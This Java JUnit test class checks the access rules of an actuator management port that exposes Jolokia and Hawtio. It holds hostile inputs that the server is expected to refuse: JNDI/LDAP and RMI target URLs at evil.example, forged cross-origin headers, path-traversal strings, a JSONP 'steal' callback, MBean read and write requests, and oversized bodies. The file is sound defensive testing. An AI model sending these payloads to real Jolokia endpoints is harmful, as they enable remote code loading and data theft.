package dev.caravan.platform.management;

import static org.assertj.core.api.Assertions.assertThat;

import dev.caravan.platform.Role;
import dev.caravan.testing.Api;
import dev.caravan.testing.CaravanTest;
import dev.caravan.testing.Source;
import java.io.ByteArrayInputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Who reaches what on the two ports, and how. What Jolokia may do with MBeans is tested on the packed program. */
@CaravanTest
class ManagementPortTest {

    private static final List<String> HEALTH =
            List.of("/actuator/health", "/actuator/health/liveness", "/actuator/health/readiness");
    private static final List<String> OTHERS = List.of(
            "/actuator",
            "/actuator/prometheus",
            "/actuator/camelroutes",
            "/actuator/hawtio",
            "/actuator/hawtio/",
            "/actuator/hawtio/index.html",
            "/actuator/hawtio/plugin",
            "/actuator/hawtio/user",
            "/actuator/hawtio/anything");
    private static final String VERSION = "{\"type\":\"version\"}";
    private static final String JOLOKIA = "/actuator/jolokia";

    @Autowired
    Api api;

    @Autowired
    JdbcClient jdbc;

    @BeforeEach
    void addUsers() {
        for (Role role : Role.values()) {
            jdbc.sql("INSERT INTO app_user (account_id, username, password_hash, role) "
                            + "SELECT account_id, :name, password_hash, :role FROM app_user WHERE username = 'admin' "
                            + "ON CONFLICT DO NOTHING")
                    .param("name", "a-" + role.word())
                    .param("role", role.word())
                    .update();
        }
    }

    @Test
    void healthIsTheSameOnBothPorts() {
        for (String path : HEALTH) {
            Api.Answer main = call("GET", api.uri(path), null, null).expect(200);
            Api.Answer management =
                    call("GET", api.management(path), null, null).expect(200);

            assertThat(main.text()).isEqualTo(management.text()).doesNotContain("components");
            assertThat(main.headers().firstValue("Content-Type"))
                    .isEqualTo(management.headers().firstValue("Content-Type"));
        }
        assertThat(api.get("/actuator/health").json().path("components").isObject())
                .isTrue();
    }

    @Test
    void nothingElseOfActuatorIsOnThePortOfTheApi() {
        OTHERS.forEach(path -> {
            call("GET", api.uri(path), null, null).expect(401);
            call("GET", api.uri(path), "admin", null).expect(404);
        });
        call("GET", api.uri("/actuator/health/db"), null, null).expect(401);
        for (String path : List.of(JOLOKIA, "/actuator/hawtio/jolokia")) {
            jolokia(api.uri(path), null, VERSION).expect(401);
            jolokia(api.uri(path), "admin", VERSION).expect(404);
        }
    }

    @Test
    void onlyAdministratorsUseTheManagementPort() {
        OTHERS.forEach(path -> {
            call("GET", api.management(path), null, null).expect(401);
            call("GET", api.management(path), "a-viewer", null).expect(403);
            call("GET", api.management(path), "a-operator", null).expect(403);
            assertThat(call("GET", api.management(path), "a-admin", null).status())
                    .as(path)
                    .isNotIn(401, 403, 405);
        });
        for (String path : List.of(JOLOKIA, "/actuator/hawtio/jolokia")) {
            jolokia(api.management(path), null, VERSION).expect(401);
            jolokia(api.management(path), "a-viewer", VERSION).expect(403);
            jolokia(api.management(path), "a-operator", VERSION).expect(403);
            assertThat(jolokia(api.management(path), "a-admin", VERSION)
                            .expect(200)
                            .json()
                            .at("/value/agent")
                            .asText())
                    .isNotEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "/version",
                "/list",
                "/search/*:*",
                "/read/java.lang:type=Runtime/SystemProperties",
                "/exec/java.lang:type=Memory/gc",
                "/write/java.lang:type=Memory/Verbose/true"
            })
    void aLinkToJolokiaDoesNothing(String path) {
        for (String base : List.of(JOLOKIA, "/actuator/hawtio/jolokia")) {
            URI address = URI.create(api.management(base) + path);
            for (String method : List.of("GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS")) {
                assertThat(call(method, address, "admin", null).status())
                        .as("%s %s", method, address)
                        .isEqualTo(403);
            }
            if (!path.isEmpty()) {
                jolokia(address, "admin", VERSION).expect(403);
            }
        }
    }

    @ParameterizedTest
    @CsvSource(textBlock = """
                    Origin, http://evil.example
                    Origin, null
                    Origin, http://localhost:1
                    Origin, http://127.0.0.1.evil.example
                    Sec-Fetch-Site, cross-site
                    Sec-Fetch-Site, same-site
                    """)
    void anotherWebsiteIsRefusedAndHearsNothing(String header, String value) {
        for (String path :
                List.of(JOLOKIA, "/actuator/hawtio/jolokia", "/actuator/prometheus", "/actuator/hawtio/user")) {
            String method = path.endsWith("jolokia") ? "POST" : "GET";
            HttpRequest.Builder request = HttpRequest.newBuilder(api.management(path))
                    .header("Authorization", Api.authorization())
                    .header("Content-Type", "application/json")
                    .header(header, value);

            Api.Answer answer = api.send(
                    request.method(method, BodyPublishers.ofString(VERSION)).build());

            assertThat(answer.status()).as(path).isEqualTo(403);
            assertThat(answer.headers().map().keySet()).noneMatch(name -> name.startsWith("access-control-"));
        }
    }

    @Test
    void aPreflightAllowsNothing() {
        Api.Answer answer = api.send(HttpRequest.newBuilder(api.management(JOLOKIA))
                .header("Origin", "http://evil.example")
                .header("Access-Control-Request-Method", "POST")
                .header("Access-Control-Request-Headers", "content-type,authorization")
                .method("OPTIONS", BodyPublishers.noBody())
                .build());

        assertThat(answer.status()).isEqualTo(403);
        assertThat(answer.headers().map().keySet()).noneMatch(name -> name.startsWith("access-control-"));
    }

    @Test
    void ourOwnPageMayAsk() {
        URI address = api.management(JOLOKIA);
        Api.Answer answer = api.send(HttpRequest.newBuilder(address)
                .header("Authorization", Api.authorization())
                .header("Content-Type", "text/json")
                .header("Origin", "http://localhost:" + address.getPort())
                .header("Sec-Fetch-Site", "same-origin")
                .POST(BodyPublishers.ofString(VERSION))
                .build());

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.headers().map().keySet()).noneMatch(name -> name.startsWith("access-control-"));
    }

    @Test
    void aLinkOfAnotherWebsiteMayOpenHawtio() {
        Api.Answer answer = api.send(HttpRequest.newBuilder(api.management("/actuator/hawtio/index.html"))
                .header("Authorization", Api.authorization())
                .header("Sec-Fetch-Site", "cross-site")
                .header("Sec-Fetch-Mode", "navigate")
                .header("Sec-Fetch-Dest", "document")
                .build());

        assertThat(answer.status()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "text/plain;charset=application/json",
                "application/x-www-form-urlencoded",
                "multipart/form-data",
                "text/html",
                "*/*",
                "application/*",
                "no type"
            })
    void jolokiaTakesNoFormOfAWebPage(String contentType) {
        call("POST", api.management(JOLOKIA), "admin", contentType, BodyPublishers.ofString(VERSION))
                .expect(415);
    }

    @Test
    void jolokiaTakesNoRequestWithoutAType() {
        call("POST", api.management(JOLOKIA), "admin", null, BodyPublishers.ofString(VERSION))
                .expect(415);
    }

    @Test
    void theRequestHasALimitBeforeItIsParsed() {
        byte[] large =
                "[".repeat(JolokiaRequestFilter.LARGEST_BODY + 1).getBytes(java.nio.charset.StandardCharsets.UTF_8);
        BodyPublisher announced = BodyPublishers.ofByteArray(large);
        BodyPublisher chunked = BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(large));

        for (BodyPublisher body : List.of(announced, chunked)) {
            call("POST", api.management(JOLOKIA), "admin", "application/json", body)
                    .expect(413);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    400 |
                    400 | {
                    400 | null
                    400 | "version"
                    400 | [[{"type":"version"}]]
                    400 | {"type":"version"} {"type":"version"}
                    400 | {"type":"version","type":"config"}
                    400 | {"a":[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]}
                    403 | {}
                    403 | {"type":"config"}
                    403 | {"type":"CONFIG"}
                    403 | {"type":"notification","command":"register"}
                    403 | {"type":"write","mbean":"java.lang:type=Memory","attribute":"Verbose","value":true}
                    403 | {"type":"version","target":{"url":"service:jmx:rmi:///jndi/ldap://evil.example/x"}}
                    403 | [{"type":"version"},{"type":"version","target":{"url":"service:jmx:rmi:///jndi/rmi://evil.example/x"}}]
                    403 | {"type":"read","mbean":"*:*"}
                    403 | {"type":"read","mbean":"java.lang:type=Runtim?","attribute":"SystemProperties"}
                    403 | {"type":"exec","mbean":"org.apache.camel:type=*,*","operation":"stop()"}
                    """)
    void whatIsNoRequestOfOursEndsBeforeJolokia(int status, @Nullable String body) {
        jolokia(api.management(JOLOKIA), "admin", body == null ? "" : body).expect(status);
    }

    /** Headers, unread bodies and guesses; the others of the main port's defences have tests of their own above. */
    @Test
    void theDefencesOfTheMainPortHoldHereAsWell() throws Exception {
        for (Api.Answer answer : List.of(
                call("GET", api.management("/actuator/health"), null, null).expect(200),
                call("GET", api.management("/actuator/prometheus"), null, null).expect(401),
                call("GET", api.management("/actuator/prometheus"), "a-viewer", null)
                        .expect(403),
                call("GET", api.management("/actuator/hawtio/index.html"), "admin", null)
                        .expect(200))) {
            assertThat(answer.headers().map())
                    .containsKeys("Content-Security-Policy", "X-Content-Type-Options", "Cache-Control")
                    .containsEntry("Cross-Origin-Resource-Policy", List.of("same-origin"))
                    .containsEntry("Cross-Origin-Opener-Policy", List.of("same-origin"));
        }
        Source guesser = new Source("127.77.0.1");
        List<Integer> answers = IntStream.range(0, 12)
                .mapToObj(i -> guesser.basic(api.management("/actuator/prometheus"), "a-admin", "wrong-" + i)
                        .status())
                .toList();
        assertThat(answers).contains(401, 429).endsWith(429);
        try (Socket socket = new Socket("127.0.0.1", api.management("/").getPort())) {
            socket.setSoTimeout(5_000);
            socket.getOutputStream()
                    .write(("POST /actuator/jolokia HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                                    + "Content-Length: 1000000\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            assertThat(new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8))
                    .startsWith("HTTP/1.1 401")
                    .contains("Connection: close");
        }
    }

    @Test
    void noAnswerIsAScript() {
        jolokia(api.management(JOLOKIA + "?callback=steal"), "admin", VERSION).expect(403);
    }

    @Test
    void ofABulkRequestEachOneIsChecked() {
        String bulk = """
                [{"type":"version"},
                 {"type":"read","mbean":"java.lang:type=Runtime","attribute":"SystemProperties"},
                 {"type":"exec","mbean":"java.lang:type=Memory","operation":"gc"}]""";

        var answers =
                jolokia(api.management(JOLOKIA), "admin", bulk).expect(200).json();

        assertThat(answers.path(0).path("status").asInt()).isEqualTo(200);
        assertThat(answers.path(1).path("status").asInt()).isEqualTo(403);
        assertThat(answers.path(2).path("status").asInt()).isEqualTo(403);
        assertThat(answers.toString()).doesNotContain("java.class.path", "stacktrace");
    }

    /** All answers of a bulk request are in memory together, and one of list has megabytes. */
    @Test
    void aBulkRequestAsksForNoMoreThanFitsIntoMemory() {
        for (String one :
                List.of("{\"type\":\"list\"}", "{\"type\":\"LIST\"}", "{\"type\":\"search\",\"mbean\":\"*:*\"}")) {
            jolokia(api.management(JOLOKIA), "admin", "[" + (one + ",").repeat(5) + one + "]")
                    .expect(413);
        }
        String dump =
                "{\"type\":\"exec\",\"mbean\":\"org.apache.camel:type=context\",\"operation\":\"dumpRoutesAsXml()\"}";
        jolokia(api.management(JOLOKIA), "admin", "[" + (dump + ",").repeat(20) + dump + "]")
                .expect(413);
        jolokia(api.management(JOLOKIA), "admin", "[" + (VERSION + ",").repeat(500) + VERSION + "]")
                .expect(413);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"type\":\"read\",\"mbean\":null,\"attribute\":\"SystemProperties\"}",
                "{\"type\":\"read\",\"attribute\":\"SystemProperties\"}",
                "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\",\"operation\":null}",
                "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\",\"operation\":[\"gc\"]}",
                "[{\"type\":\"exec\",\"mbean\":[\"*:*\"],\"operation\":\"gc\"}]"
            })
    void whatIsNamedIsAText(String request) {
        jolokia(api.management(JOLOKIA), "admin", request).expect(400);
    }

    @Test
    void listAndSearchShowNothingOfTheJvm() {
        var found = jolokia(api.management(JOLOKIA), "admin", "{\"type\":\"search\",\"mbean\":\"*:*\"}")
                .expect(200);
        var listed =
                jolokia(api.management(JOLOKIA), "admin", "{\"type\":\"list\"}").expect(200);

        assertThat(found.text() + listed.text())
                .doesNotContain("java.lang", "com.sun.management", "hikari", "HotSpot", "jolokia:type", "JMXSecurity");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/actuator/hawtio/proxy",
                "/actuator/hawtio/proxy/enabled",
                "/actuator/hawtio/proxy/http/127.0.0.1/1",
                "/actuator/hawtio/%70roxy/http/127.0.0.1/1",
                "/actuator/hawtio/x%2f..%2fproxy",
                "/actuator/health/%2e%2e/env",
                "/actuator/env",
                "/actuator/heapdump",
                "/actuator/shutdown",
                "/products",
                "/openapi.json",
                "/"
            })
    void noOtherAddressExistsThere(String path) {
        assertThat(call("GET", api.management(path), "admin", null).status()).isIn(400, 404);
        assertThat(call("POST", api.management(path), "admin", "application/json", BodyPublishers.ofString("{}"))
                        .status())
                .isIn(400, 404);
    }

    @Test
    void whatIsReadCannotBeWritten() {
        for (String path : List.of(
                "/actuator/camelroutes/list-products/stop", "/actuator/prometheus", "/actuator/hawtio/auth/login")) {
            call("POST", api.management(path), "admin", "application/json", BodyPublishers.ofString("{}"))
                    .expect(405);
        }
    }

    private Api.Answer jolokia(URI address, @Nullable String user, String body) {
        return call("POST", address, user, "application/json", BodyPublishers.ofString(body));
    }

    private Api.Answer call(String method, URI address, @Nullable String user, @Nullable String contentType) {
        return call(method, address, user, contentType, BodyPublishers.noBody());
    }

    private Api.Answer call(
            String method, URI address, @Nullable String user, @Nullable String contentType, BodyPublisher body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(address).method(method, body);
        if (user != null) {
            request.header("Authorization", Api.authorization(user));
        }
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        return api.send(request.build());
    }
}
